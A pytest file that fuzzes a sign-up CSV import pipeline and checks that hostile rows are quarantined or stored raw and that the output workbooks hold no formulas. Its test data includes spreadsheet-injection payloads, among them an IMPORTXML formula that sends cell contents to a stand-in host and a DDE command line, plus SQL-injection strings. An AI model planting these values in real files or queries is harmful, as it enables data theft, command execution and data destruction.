"""Hostile rows in an export, through the real landing and normalising steps: every row ends
either in a sign-up or in quarantine with a readable reason, always stored raw as it was read,
and nothing crashes. Then a catalogue of the worst values through a whole sync, on SQLite and
PostgreSQL, into roster workbooks that hold no formula."""

from __future__ import annotations

import csv
import itertools
from pathlib import Path

import openpyxl
import pytest
from faults.report import report
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from badinput.pipeline import outcomes, sync_file, unaccounted, write_campaign
from rollcall.models.campaign import DATABASE_URL_ENV

from fakes.google_sheets import TOKEN as SHEETS_TOKEN
from fakes.google_sheets import FakeGoogleSheets

pytestmark = pytest.mark.badinput

SECTION = "bad input: hostile rows"
HUGE = "Zoé" * 20_000  # 60,000 characters: past a spreadsheet cell's 50,000 limit
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example","x")',
    "+33 6 39 98 00 01",
    "-2+3",
    "@SUM(A1)",
    '=IMPORTXML(CONCAT("http://x.example/?",A1),"//a")',
    "=cmd|' /C calc'!A0",
    "\t=1+1",
]
SQL = ["Robert'); DROP TABLE signups;--", "' OR '1'='1", "1; DELETE FROM people", '"; --', "%' AND 1=1 --"]
CONTROL = ["\x07bell", "a\x1bb", "tab\there", "line\nbreak", "cr\rreturn", "\x7f", "\u2028sep"]
BIDI = ["\u200fسارة\u200f", "\u202eevil\u202c", "Zo\u200de", "\ufeffBOM", "\u00a0\u00a0"]
EMOJI = ["🙂", "👩‍👩‍👧‍👦 Famille", "Zoé 🇫🇷", "🏳️‍🌈"]
BAD_EMAILS = [
    "",
    "zoe",
    "zoe@",
    "@example.org",
    "zoe@@example.org",
    "zoe@example",
    "zoe example@x.org",
    "zoe@exa mple.org",
    "zoe@-example.org",
    "zoe..dupont@example.org",
    ".zoe@example.org",
    "zoe@example..org",
    "zoé@exämple.org",
    "a" * 300 + "@example.org",
    "zoe@" + "a" * 300 + ".org",
    "mailto:zoe@example.org",
    "<zoe@example.org>",
    "zoe@example.org, max@example.org",
    "N/A",
    "0",
]
BAD_PHONES = [
    "",
    "0",
    "12",
    "06 39 98",
    "+33",
    "+33 6",
    "06.39.98.00.01.99.99",
    "phone",
    "(+33)",
    "+999 1234567",
    "00000000000",
    "06 39 98 00 0x",
    "1e10",
    "6.39980001E8",
    "--",
    "0" * 40,
]
GOOD = {
    "Prénom": ["Zoé", "Jean-Pierre", "N'Diaye"],
    "Nom": ["Martin", "Le Goff", "Nguyễn"],
    "Email": ["zoe.martin@example.org"],
    "Téléphone": ["06 39 98 00 01", "+33639980002"],
    "Lieu": ["Paris", "St Denis", "93200", "Brunoy 91", "Reims (51)", "59", "nulle part"],
    "Date": ["2022-09-30 10:00", "30/09/2022", "44835.5", "hier"],
    "Consentement": ["Oui", "", "x", "non"],
}
HOSTILE = FORMULAS + SQL + CONTROL + BIDI + EMOJI

#: NUL is left out of cells: a NUL byte makes its row a bad row, landed with U+FFFD in its
#: place (see test_hostile_files.py), which the raw-equality check here would not recognise.
no_surrogates = st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00")


def cell(column: str) -> st.SearchStrategy[str]:
    special = BAD_EMAILS if column == "Email" else BAD_PHONES if column == "Téléphone" else []
    kinds = [st.sampled_from(GOOD[column])] * 3 + [  # a valid value half of the time
        st.sampled_from(HOSTILE + special + [""]),
        st.text(no_surrogates, max_size=40),
        st.just(HUGE),
    ]
    return st.integers(0, len(kinds) - 1).flatmap(lambda i: kinds[i])


rows_strategy = st.lists(st.fixed_dictionaries({c: cell(c) for c in GOOD}), min_size=1, max_size=12)
ids = itertools.count(1)


def write_csv(path: Path, rows: list[dict[str, str]], encoding: str = "utf-8") -> None:
    with path.open("w", encoding=encoding, newline="") as out:
        writer = csv.writer(out, delimiter=";")
        writer.writerow(["Submission ID", *GOOD])
        for row in rows:
            writer.writerow([row["Submission ID"], *(row[c] for c in GOOD)])


def test_every_fuzzed_row_ends_signed_up_or_quarantined(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from rollcall.connectors.database import upgrade

    url = f"sqlite:///{tmp_path / 'rollcall.db'}"
    monkeypatch.setenv(DATABASE_URL_ENV, url)
    upgrade(url)
    export = tmp_path / "export.csv"
    config = write_campaign(tmp_path, export)
    tried = {"rows": 0, "examples": 0, "source errors": 0}

    @settings(
        max_examples=40,
        deadline=None,
        derandomize=True,
        phases=[Phase.explicit, Phase.generate],
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    )
    @given(rows_strategy)
    def check(rows: list[dict[str, str]]) -> None:
        rows = [{"Submission ID": f"S{next(ids):06d}", **row} for row in rows]
        write_csv(export, rows)
        error = sync_file(config)
        tried["examples"] += 1
        tried["rows"] += len(rows)
        found = outcomes(url)
        assert error is None, error
        assert unaccounted(found) == []
        for row in rows:
            stored = found.get(row["Submission ID"])
            assert stored is not None, f"row {row['Submission ID']} was not stored raw"
            assert {k: stored.payload.get(k) for k in row} == row, "the raw record is not what the export held"

    check()
    found = outcomes(url)
    reasons = sorted({o.reason_code for o in found.values() if o.reason_code})
    report(
        SECTION,
        f"hypothesis: {tried['rows']} rows in {tried['examples']} exports; "
        f"{sum(o.signup for o in found.values())} sign-ups, "
        f"{sum(o.reason_code is not None for o in found.values())} quarantined ({', '.join(reasons)}); "
        "every one stored raw, none lost",
    )


def catalogue(huge: bool = False) -> list[dict[str, str]]:
    """Every hostile value once in each column, beside otherwise valid fields (a 60,000-character
    value only when ``huge``: see test_huge_values_are_stored_raw_and_never_crash_the_sync)."""
    base = {
        "Prénom": "Zoé",
        "Nom": "Martin",
        "Email": "zoe.martin@example.org",
        "Téléphone": "06 39 98 00 01",
        "Lieu": "Paris",
        "Date": "2022-09-30 10:00",
        "Consentement": "Oui",
    }
    rows = (
        [
            {**base, "Lieu": "Lyon", "Email": f"zoe.huge{n}@example.org", column: HUGE, "Submission ID": f"huge-{n}"}
            for n, column in enumerate(GOOD)
        ]
        if huge
        else []
    )
    for column in GOOD:
        values = (
            HOSTILE
            + [HUGE if huge else "x" * 255, ""]
            + (BAD_EMAILS if column == "Email" else BAD_PHONES if column == "Téléphone" else [])
        )
        for n, value in enumerate(values):
            email = f"zoe.{column[:3].lower()}{n}@example.org" if column != "Email" else value
            site = "Paris" if n % 2 else "Lyon"  # half to the Paris sheet, half to Lyon's workbook
            rows.append({**base, "Lieu": site, "Email": email, column: value, "Submission ID": f"{column[:3]}-{n:03d}"})
    return rows


EXCEL_CELL_LIMIT, SHEETS_CELL_LIMIT = 32_767, 50_000


@pytest.mark.parametrize(
    "huge",
    [
        pytest.param(False, id="catalogue"),
        pytest.param(True, id="huge_values"),
    ],
)
def test_catalogue_through_a_whole_sync_writes_no_formula(
    huge: bool, tmp_path: Path, migrated_url: str, monkeypatch: pytest.MonkeyPatch, request: pytest.FixtureRequest
) -> None:
    monkeypatch.setenv(DATABASE_URL_ENV, migrated_url)
    monkeypatch.setenv("ROLLCALL_TEST_GOOGLE_TOKEN", SHEETS_TOKEN)
    rows = catalogue(huge)
    export = tmp_path / "export.csv"
    write_csv(export, rows)
    with FakeGoogleSheets() as sheets:
        config = write_campaign(tmp_path, export, sheets_url=sheets.url)
        error = sync_file(config, rosters=True)
        sheet_formulas = sheets.formula_cells()
        grids = [sheets.grid(key, "Inscrits") for key in sheets.spreadsheets]
    sheet_texts = [v for grid in grids for row in grid[1:] for v in row if isinstance(v, str)]
    assert error is None, error
    found = outcomes(migrated_url)
    assert unaccounted(found) == []
    assert sorted(found) == sorted(r["Submission ID"] for r in rows), "a row was not stored raw"
    formulas = []
    for path in sorted((tmp_path / "rosters").glob("*.xlsx")):
        book = openpyxl.load_workbook(path)
        formulas += [
            f"{path.name}!{ws.title}!{c.coordinate}"
            for ws in book
            for row in ws.iter_rows()
            for c in row
            if c.data_type == "f"
        ]
    paris = openpyxl.load_workbook(next((tmp_path / "rosters").glob("LYS *.xlsx")))["Inscrits"]
    shown = {str(c.value) for row in paris.iter_rows(min_row=2) for c in row if c.value is not None}
    too_long = [
        f"{path.name}!{ws.title}!{c.coordinate}"
        for path in sorted((tmp_path / "rosters").glob("*.xlsx"))
        for ws in openpyxl.load_workbook(path)
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str) and len(c.value) > EXCEL_CELL_LIMIT
    ]
    assert formulas == [] and sheet_formulas == []
    assert too_long == [], "Excel cannot open a workbook with a cell over 32,767 characters"
    assert any(v.startswith("=") for v in sheet_texts), "no formula-like value reached the sheet to check"
    assert max(map(len, sheet_texts)) <= SHEETS_CELL_LIMIT, "Google Sheets refuses a cell over 50,000 characters"
    assert any(v.startswith("=") for v in shown), "no formula-like value reached the roster to check"
    report(
        SECTION,
        f"{'huge values' if huge else 'catalogue'} on {migrated_url.split(':')[0]}: {len(rows)} rows, "
        f"{sum(o.signup for o in found.values())} sign-ups, "
        f"{sum(o.reason_code is not None for o in found.values())} quarantined; rosters hold "
        f"{sum(v.startswith(('=', '+', '-', '@')) for v in shown)} formula-like texts, the Paris sheet "
        f"{sum(v.startswith(('=', '+', '-', '@')) for v in sheet_texts)}; 0 formula cells",
    )
